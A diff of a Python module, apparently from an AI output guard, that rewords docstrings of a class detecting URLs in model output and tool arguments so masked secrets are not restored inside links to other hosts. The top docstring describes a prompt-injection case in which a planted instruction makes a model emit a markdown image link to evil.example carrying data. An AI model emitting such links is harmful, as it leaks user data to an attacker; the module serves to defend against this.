@@ -1,5 +1,5 @@
 """Finds addresses in a text, because a URL, a link target or an HTML attribute may carry its
-contents to another host.
+content to another host.
 
 An instruction planted in a document can make a model answer `![x](http://evil.example/?[ID_KXWQ])`.
 A client that renders this sends the query to that host, so no masked value is restored there.
@@ -26,17 +26,17 @@ from threegate.guard.masking.address_forms import (
 )
 
 UNREAD = 256
-"""Code points that may be unread; the stream machine keeps more (`stream.text.CONTEXT`)."""
+"""Code points that may remain unread; the stream machine keeps more (`stream.text.CONTEXT`)."""
 _ADDRESS: Final = re.compile(
     rf"{BLANK}*<?(?i:https?)://([A-Za-z0-9.-]+)(?::\d{{1,5}})?[/?#]((?!.*//)[^\s\\<>\"'`]*)"
 )
 _BEFORE_HOST: Final = re.compile(r"(?i:https?:)?//")
 _AT_START: Final = re.compile(r"(?:\A|[\s\"'`(=,>:])\Z")
-"""What stands before the scheme, or before slashes whose scheme is none of the web's."""
+"""The text before the scheme, or before slashes whose scheme is not a web scheme."""
 
 
 class AddressReader:
-    """Tells for positions of one text, in ascending order, whether they are in an address."""
+    """Tells whether positions of one text, asked in ascending order, are in an address."""
 
     __slots__ = ("_at", "_readers")
 
@@ -49,31 +49,32 @@ class AddressReader:
         self._readers: tuple[FormReader, ...] = (UrlReader(at, string=string), *others)
 
     def read(self, text: str, base: int, to: int) -> None:
-        """On to the position `to`. `text` begins at `base`, which must be near what was read."""
+        """Reads on to the position `to`. `text` begins at `base`, which must be close to what was
+        read."""
         self._at = max(self._at, to)
         for reader in self._readers:
             reader.read(text, base, to)
 
     def keep_up(self, text: str, base: int, to: int) -> None:
-        """`read`, once so much is unread that the caller may forget the beginning of it: text that
-        arrives in small pieces is read in larger ones."""
+        """Calls `read` only when so much is unread that the caller may forget its beginning: text
+        that arrives in small pieces is read in larger ones."""
         if to - self._at > UNREAD:
             self.read(text, base, to)
 
     def skip(self, to: int) -> None:
-        """The text up to `to` is replaced by a value, which counts as one word."""
+        """Skips the text up to `to`, which a value replaces and which counts as one word."""
         self._at = max(self._at, to)
         for reader in self._readers:
             reader.skip(to)
 
     def inside(self, hosts: Sequence[str] = ()) -> bool:
-        """Whether the position is in an address of a host other than these."""
+        """Whether the position is in an address of any host other than these."""
         open_ = [reader for reader in self._readers if reader.inside]
         return not all(_is_listed(reader.head, hosts) for reader in open_)
 
     def at_host(self, text: str, base: int) -> bool:
-        """Whether the position is right behind the slashes of a URL in plain text, which no client
-        fetches by itself: its whole host may be put there."""
+        """Whether the position is right after the slashes of a URL in plain text, which no client
+        fetches by itself, so the whole host may be restored there."""
         match [reader for reader in self._readers if reader.inside]:
             case [UrlReader(begun=int(begun)) as url] if _BEFORE_HOST.fullmatch(url.head):
                 return _AT_START.search(text, 0, begun - base) is not None
@@ -82,7 +83,7 @@ class AddressReader:
 
 
 def _is_listed(head: str, hosts: Sequence[str]) -> bool:
-    """Whether an address is a plain one of a listed host, as far as the place in question."""
+    """Whether an address, up to the position in question, is a plain one of a listed host."""
     found = _ADDRESS.fullmatch(head) if hosts and len(head) <= MAX_HEAD else None
     return found is not None and any(_covers(h, found[1].lower()) for h in hosts)
 
@@ -96,8 +97,8 @@ _FIRST: Final = re.compile(r"\S")
 
 
 class ArgumentReader(AddressReader):
-    """The same for tool arguments: in JSON text each string is a text of its own. Other text is
-    read as one."""
+    """The same for tool arguments: in JSON text each string is a separate text. Other text is read
+    as a whole."""
 
     __slots__ = ("_json", "_string")
 
